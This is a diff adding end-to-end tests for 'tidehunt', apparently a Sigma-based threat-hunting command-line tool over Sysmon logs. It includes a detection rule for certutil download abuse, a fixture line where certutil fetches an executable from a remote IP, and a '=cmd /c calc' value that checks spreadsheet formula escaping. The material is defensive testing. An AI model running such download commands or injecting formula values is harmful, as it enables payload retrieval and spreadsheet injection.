@@ -1,0 +1,226 @@
+"""The tidehunt command line, end to end: outputs, exit codes, rule packs."""
+
+from __future__ import annotations
+
+import csv
+import functools
+import http.server
+import json
+import threading
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from tidehunt.cli.main import main
+
+RULE = """
+title: Certutil download
+id: 6f3a1d2e-0b7c-4c1a-9a55-0d6c1f1b9e01
+status: experimental
+description: test rule
+author: tests
+date: 2026-11-01
+tags: [attack.command-and-control, attack.t1105]
+logsource: {category: process_creation, product: windows}
+detection:
+  sel:
+    Image|endswith: '\\\\certutil.exe'
+    CommandLine|contains|all: ['-urlcache', '-f']
+  condition: sel
+level: high
+"""
+LOW_RULE = """
+title: Any process
+id: 0b8f0a57-2a8e-4f2f-8d0e-1b2c3d4e5f60
+status: experimental
+description: low rule
+author: tests
+date: 2026-11-01
+tags: [attack.execution, attack.t1059]
+logsource: {category: process_creation, product: windows}
+detection:
+  sel:
+    Image|endswith: '.exe'
+  condition: sel
+level: low
+"""
+
+
+def _ev(i: int, image: str, cmd: str, ts: str = "2026-10-06T01:00:00Z") -> str:
+    return json.dumps({"Event": {"System": {
+        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
+        "EventRecordID": i, "Channel": "Microsoft-Windows-Sysmon/Operational",
+        "Computer": "ws1.corp.example", "TimeCreated": {"#attributes": {"SystemTime": ts}}},
+        "EventData": {"Image": image, "CommandLine": cmd, "User": "CORP\\amy"}}})
+
+
+@pytest.fixture
+def setup(tmp_path):
+    ev = tmp_path / "evidence"
+    ev.mkdir()
+    (ev / "sysmon.json").write_text("\n".join([
+        _ev(1, "C:\\Windows\\System32\\certutil.exe",
+            "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe"),
+        _ev(2, "C:\\Windows\\System32\\certutil.exe", "certutil -hashfile a.exe SHA256"),
+        _ev(3, "C:\\Windows\\System32\\cmd.exe", "=cmd /c calc", "2026-10-07T01:00:00Z"),
+    ]) + "\n")
+    rules = tmp_path / "rules"
+    rules.mkdir()
+    (rules / "certutil.yml").write_text(RULE)
+    (rules / "low.yml").write_text(LOW_RULE)
+    return ev, rules, tmp_path / "case"
+
+
+def test_hunt_writes_contract(setup, capsys):
+    ev, rules, case = setup
+    assert main(["--no-color", "hunt", str(ev), "-o", str(case), "--rules", str(rules)]) == 0
+    out = capsys.readouterr().out
+    assert "Findings by level" in out
+    rows = [json.loads(x) for x in (case / "findings.jsonl").read_text().splitlines()]
+    assert len(rows) == 4  # 1 certutil + 3 "any process"
+    hit = next(r for r in rows if r["rule_title"] == "Certutil download")
+    for key in ("finding_id", "ts", "ts_last", "rule_id", "rule_title", "engine", "level",
+                "techniques", "tactics", "host", "user", "summary", "evidence", "fields"):
+        assert key in hit
+    assert hit["ts"] == "2026-10-06T01:00:00Z" and hit["engine"] == "sigma"
+    assert hit["techniques"] == ["T1105"] and hit["tactics"] == ["command-and-control"]
+    assert hit["host"] == "ws1.corp.example" and hit["user"] == "CORP\\amy"
+    assert hit["evidence"][0]["source_file"] == str(ev / "sysmon.json")
+    assert hit["evidence"][0]["record_id"] == 1 and hit["evidence"][0]["table"] == "windows"
+    assert hit["fields"]["CommandLine"].startswith("certutil -urlcache")
+    with open(case / "timeline.csv", newline="") as fh:
+        table = list(csv.reader(fh))
+    assert table[0] == ["Timestamp", "RuleTitle", "Level", "Computer", "Channel", "EventID",
+                        "RecordID", "Details", "RuleID", "MitreTactics", "MitreTags",
+                        "SourceFile"]
+    assert len(table) == 5
+    # the cmd line starting with "=" must not become a spreadsheet formula
+    assert all(not cell.startswith("=") for row in table for cell in row)
+    report = json.loads((case / "report.json").read_text())
+    assert report["version"] == 1 and report["findings_count"] == 4
+    manifest = json.loads((case / "manifest.json").read_text())
+    assert manifest["runs"][-1]["rules"][0]["files"] == 2
+
+
+def test_finding_ids_stable_across_runs(setup):
+    ev, rules, case = setup
+    main(["-q", "hunt", str(ev), "-o", str(case), "--rules", str(rules)])
+    first = (case / "findings.jsonl").read_text()
+    assert main(["-q", "detect", str(case), "--rules", str(rules)]) == 0
+    assert (case / "findings.jsonl").read_text() == first
+
+
+def test_filters_level_time_exclude(setup):
+    ev, rules, case = setup
+    main(["-q", "hunt", str(ev), "-o", str(case), "--rules", str(rules), "-m", "high"])
+    assert len((case / "findings.jsonl").read_text().splitlines()) == 1
+    main(["-q", "detect", str(case), "--rules", str(rules), "--to", "2026-10-06T12:00:00"])
+    assert len((case / "findings.jsonl").read_text().splitlines()) == 3
+    main(["-q", "detect", str(case), "--rules", str(rules), "--exclude-rule",
+          "0b8f0a57-2a8e-4f2f-8d0e-1b2c3d4e5f60"])
+    assert len((case / "findings.jsonl").read_text().splitlines()) == 1
+
+
+def test_exit_codes(setup, tmp_path):
+    ev, rules, case = setup
+    assert main(["-q", "hunt", str(ev), "-o", str(case), "--rules", str(rules),
+                 "--fail-on", "high"]) == 10
+    assert main(["-q", "detect", str(case), "--rules", str(rules), "--fail-on",
+                 "critical"]) == 0
+    with pytest.raises(SystemExit) as exc:
+        main(["hunt"])
+    assert exc.value.code == 2
+    junk = tmp_path / "junk.txt"
+    junk.write_text("nothing to see\n")
+    assert main(["-q", "hunt", str(junk), "-o", str(tmp_path / "c2"), "--rules",
+                 str(rules)]) == 3
+    bad = tmp_path / "bad"
+    bad.mkdir()
+    (bad / "x.yml").write_text("title: broken\nlogsource: {product: windows}\n"
+                               "detection: {condition: nothing}\n")
+    assert main(["-q", "detect", str(case), "--rules", str(bad)]) == 4
+    assert main(["-q", "detect", str(case), "--rules", str(tmp_path / "missing")]) == 2
+    assert main(["-q", "detect", str(tmp_path / "not-a-case")]) == 3
+
+
+def test_report_rerenders(setup, tmp_path, capsys):
+    ev, rules, case = setup
+    main(["-q", "hunt", str(ev), "-o", str(case), "--rules", str(rules)])
+    out = tmp_path / "again.jsonl"
+    assert main(["report", str(case), "--format", "jsonl", "--out", str(out)]) == 0
+    assert out.read_text() == (case / "findings.jsonl").read_text()
+    assert main(["--no-color", "report", str(case)]) == 0
+    assert "Top rules" in capsys.readouterr().out
+
+
+def test_search(setup, capsys):
+    ev, rules, case = setup
+    main(["-q", "ingest", str(ev), "-o", str(case)])
+    assert main(["search", str(case), "SELECT count(*) AS n FROM windows", "--csv"]) == 0
+    assert capsys.readouterr().out.splitlines() == ["n", "3"]
+
+
+def test_rules_lint_lists_failures(tmp_path, capsys):
+    d = tmp_path / "r"
+    d.mkdir()
+    (d / "ok.yml").write_text(RULE)
+    (d / "bad.yml").write_text("title: broken\nid: 1\nlogsource: {product: windows}\n"
+                               "detection: {sel: {a: b}, condition: sel and nope}\n")
+    (d / "linux.yml").write_text(RULE.replace("product: windows", "product: linux").replace(
+        "6f3a1d2e", "7f3a1d2e"))
+    assert main(["rules", "lint", str(d)]) == 4
+    out = capsys.readouterr().out
+    assert "FAILED" in out and "bad.yml" in out
+    assert "N/A" in out and "linux" in out
+    assert "1 rules usable, 1 failed, 1 not applicable" in out
+
+
+@pytest.fixture
+def rule_server(corpus, tmp_path):
+    """An HTTP server on 127.0.0.1 serving a rule archive built from the corpus."""
+    src = corpus("sigma/rules/windows/process_creation")
+    root = tmp_path / "www"
+    root.mkdir()
+    with zipfile.ZipFile(root / "rules.zip", "w") as zf:
+        for f in sorted(src.glob("proc_creation_win_certutil*.yml")):
+            zf.write(f, f"rules/windows/process_creation/{f.name}")
+    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
+    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
+    threading.Thread(target=srv.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{srv.server_address[1]}/rules.zip"
+    srv.shutdown()
+
+
+def test_rules_update_from_local_server(rule_server, setup, capsys):
+    ev, _, case = setup
+    assert main(["rules", "update", "--from", rule_server]) == 0
+    out = capsys.readouterr().out
+    assert "added" in out and "rules" in out
+    assert main(["rules", "update", "--from", rule_server]) == 0
+    assert "unchanged" in capsys.readouterr().out
+    assert main(["rules", "list"]) == 0
+    assert "sigmahq" in capsys.readouterr().out
+    # a hunt without --rules uses the bundled pack plus the fetched one, and says so
+    assert main(["-q", "hunt", str(ev), "-o", str(case)]) == 0
+    report = json.loads((Path(case) / "report.json").read_text())
+    names = [s["name"] for s in report["meta"]["rule_sources"]]
+    assert names[0] == "tidehunt (bundled)" and names[1].startswith("sigmahq ")
+    titles = {json.loads(x)["rule_title"] for x in (case / "findings.jsonl").read_text()
+              .splitlines()}
+    assert any("Certutil" in t for t in titles)
+
+
+def test_stale_rules_warned(setup):
+    ev, rules, case = setup
+    main(["-q", "hunt", str(ev), "-o", str(case), "--rules", str(rules), "--max-rule-age",
+          "1"])
+    report = json.loads((case / "report.json").read_text())
+    assert any("days old" in w["message"] for w in report["warnings"])
+
+
+def test_rules_update_refuses_garbage(tmp_path):
+    junk = tmp_path / "junk.zip"
+    with zipfile.ZipFile(junk, "w") as zf:
+        zf.writestr("readme.txt", "no rules here")
+    assert main(["rules", "update", "--from", str(junk)]) == 4
